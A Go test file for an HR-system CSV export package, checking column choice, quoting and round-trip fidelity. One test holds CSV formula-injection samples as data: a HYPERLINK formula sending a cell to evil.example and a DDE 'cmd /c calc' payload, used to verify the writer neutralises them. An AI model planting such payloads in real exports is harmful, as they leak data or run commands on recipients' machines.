package hris_test

import (
	"reflect"
	"strings"
	"testing"

	"github.com/orgledger/orgledger"
	"github.com/orgledger/orgledger/hris"
)

// writeCSV writes the people as an export.
func writeCSV(tb testing.TB, people []orgledger.Employee) string {
	tb.Helper()
	var b strings.Builder
	if err := hris.WriteCSV(&b, people); err != nil {
		tb.Fatalf("WriteCSV: %v", err)
	}
	return b.String()
}

// employeesOf turns rows read back into the people an export is written from.
func employeesOf(rows []hris.Row) []orgledger.Employee {
	out := make([]orgledger.Employee, len(rows))
	for i, r := range rows {
		out[i] = orgledger.Employee{ID: r.ID, Name: r.Name, Title: r.Title, ManagerID: r.Manager,
			Department: r.Department, Location: r.Location, Email: r.Email, StartDate: r.StartDate}
	}
	return out
}

func TestColumns(t *testing.T) {
	six := []hris.Field{hris.FieldID, hris.FieldName, hris.FieldTitle, hris.FieldManagerID, hris.FieldDepartment, hris.FieldLocation}
	for _, tc := range []struct {
		name   string
		people []orgledger.Employee
		want   []hris.Field
	}{
		{"no one", nil, six},
		{"no email or start date", []orgledger.Employee{{ID: "E1"}, {ID: "E2"}}, six},
		{"one email", []orgledger.Employee{{ID: "E1"}, {ID: "E2", Email: "b@example.com"}}, append(six[:6:6], hris.FieldEmail)},
		{"one start date", []orgledger.Employee{{ID: "E1", StartDate: "2024-01-02"}}, append(six[:6:6], hris.FieldStartDate)},
		{"both", []orgledger.Employee{{ID: "E1", StartDate: "2024-01-02"}, {ID: "E2", Email: "b@example.com"}},
			append(six[:6:6], hris.FieldEmail, hris.FieldStartDate)},
	} {
		if got := hris.Columns(tc.people, hris.Had{}); !reflect.DeepEqual(got, tc.want) {
			t.Errorf("%s: Columns = %v; want %v", tc.name, got, tc.want)
		}
	}
	if got := hris.Columns([]orgledger.Employee{{ID: "E1"}}, hris.Had{StartDate: true}); !reflect.DeepEqual(got, append(six[:6:6], hris.FieldStartDate)) {
		t.Errorf("a start date someone had before: Columns = %v", got)
	}
}

// TestWriteCSV pins the bytes of an export: the canonical header, and quotes only where a value
// needs them, so that files diff cleanly from month to month.
func TestWriteCSV(t *testing.T) {
	got := writeCSV(t, []orgledger.Employee{
		{ID: "E1", Name: "Amara Okafor", Title: "Chief Executive Officer", Department: "Executive", Location: "London"},
		{ID: "E2", Name: "Reyes, Daniel", Title: `VP "Platform"`, ManagerID: "E1", Department: "Engineering", Location: "London"},
		{ID: "E3", Name: "李飞飞", Title: "Research\nScientist", ManagerID: "E1", Department: "Data & AI", Location: "Zürich"},
	})
	want := `employee_id,name,title,manager_id,department,location
E1,Amara Okafor,Chief Executive Officer,,Executive,London
E2,"Reyes, Daniel","VP ""Platform""",E1,Engineering,London
E3,李飞飞,"Research
Scientist",E1,Data & AI,Zürich
`
	if got != want {
		t.Errorf("WriteCSV wrote:\n%s\nwant:\n%s", got, want)
	}
}

func TestWriteCSVOptionalColumns(t *testing.T) {
	got := writeCSV(t, []orgledger.Employee{
		{ID: "E1", Name: "Zoë Martin", Title: "CEO", Email: "zoe@example.com", StartDate: "2019-03-01"},
		{ID: "E2", Name: "Kenji Watanabe", Title: "CTO", ManagerID: "E1", Location: "Tokyo"},
	})
	want := `employee_id,name,title,manager_id,department,location,email,start_date
E1,Zoë Martin,CEO,,,,zoe@example.com,2019-03-01
E2,Kenji Watanabe,CTO,E1,,Tokyo,,
`
	if got != want {
		t.Errorf("WriteCSV wrote:\n%s\nwant:\n%s", got, want)
	}
}

// TestWriteGuardsFormulas: a value a spreadsheet would run as a formula is written after a ',
// which shows it as text, and reads back as it was; a value that only has a ' in it is
// written as it is. (Found by a black-box review: CWE-1236.)
func TestWriteGuardsFormulas(t *testing.T) {
	people := []orgledger.Employee{
		{ID: "E1", Name: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Title: "CEO", Location: "+cmd|' /c calc'!A0"},
		{ID: "E2", Name: "'t Hart", Title: "-", ManagerID: "E1", Location: "'=already quoted"},
	}
	got := writeCSV(t, people)
	want := `employee_id,name,title,manager_id,department,location
E1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",CEO,,,'+cmd|' /c calc'!A0
E2,'t Hart,'-,E1,,''=already quoted
`
	if got != want {
		t.Errorf("WriteCSV wrote:\n%s\nwant:\n%s", got, want)
	}
	if back := employeesOf(mustRead(t, got, hris.Options{}).Rows); !reflect.DeepEqual(back, people) {
		t.Errorf("read back:\n%+v\nwant:\n%+v", back, people)
	}
}

// TestWriteRead checks that reading an export gives back the people it was written from, so
// that export followed by import changes nothing.
func TestWriteRead(t *testing.T) {
	for _, tc := range []struct {
		name   string
		people []orgledger.Employee
	}{
		{"plain", []orgledger.Employee{
			{ID: "E1", Name: "Amara Okafor", Title: "Chief Executive Officer", Department: "Executive", Location: "London"},
			{ID: "E2", Name: "Daniel Reyes", Title: "VP Engineering", ManagerID: "E1", Department: "Engineering", Location: "London"},
		}},
		{"tricky values", []orgledger.Employee{
			{ID: "ceo", Name: "Okafor, Amara", Title: `Chief "Everything" Officer`, Department: "Exec, Office of the CEO", Location: "London; UK"},
			{ID: "li.feifei", Name: "李飞飞", Title: "首席科学家", ManagerID: "ceo", Department: "Data & AI", Location: "北京"},
			{ID: "zoe_m-2", Name: "Zoë Martin", Title: "Research Scientist", ManagerID: "li.feifei", Department: "Data & AI", Location: "Zürich\nOffice 3"},
			{ID: "E4", Name: `"Doc" Brown`, Title: "Engineer, at large", ManagerID: "ceo", Department: "Lab B", Location: "Hill Valley\r\nCalifornia"},
			{ID: "E5", Name: "O'Neil", Title: "Comma, and \"quotes\"", ManagerID: "E4", Department: "", Location: "Tab\tand, comma"},
		}},
		{"email and start date for some", []orgledger.Employee{
			{ID: "E1", Name: "Amara Okafor", Title: "CEO", Email: "amara@example.com", StartDate: "2019-03-01"},
			{ID: "E2", Name: "Daniel Reyes", Title: "CTO", ManagerID: "E1"},
			{ID: "E3", Name: "Priya Shah", Title: "Engineer", ManagerID: "E2", Email: "Priya.Shah+hr@example.com"},
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			data := writeCSV(t, tc.people)
			got := employeesOf(mustRead(t, data, hris.Options{}).Rows)
			// The reader reads a CRLF inside a quoted value as a newline, as spreadsheets do.
			// (Names and titles hold no line break, which the ledger refuses in them.)
			want := make([]orgledger.Employee, len(tc.people))
			for i, p := range tc.people {
				p.Location = strings.ReplaceAll(p.Location, "\r\n", "\n")
				want[i] = p
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("read back:\n%+v\nwant:\n%+v\n--- file:\n%s", got, want, data)
			}
		})
	}
}
